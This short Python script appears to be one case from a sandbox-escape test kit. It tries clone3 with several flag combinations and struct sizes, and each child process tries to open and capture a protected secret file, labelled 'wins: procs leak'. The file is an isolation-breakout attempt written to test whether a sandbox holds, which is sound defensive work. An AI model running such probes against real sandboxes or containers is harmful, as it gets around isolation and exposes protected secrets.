# SPDX-License-Identifier: Apache-2.0
# attack: clone3, plain, with a cgroup, with a chosen pid
# class: clone
# wins: procs leak
from kit import *

tried()
for flags, extra in ((0, {}), (0x1000, {}), (0x100, {}), (0x200000000, {}), (0x100000000, {}), (0x10000000, {})):
    args = struct.pack('<QQQQQQQQQQQ', flags, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
    for size in (64, 80, 88):
        r = sc('clone3', args, size)
        if r == 0:
            took(openat(SECRET))
            time.sleep(0.05)
            sc('exit_group', 0)
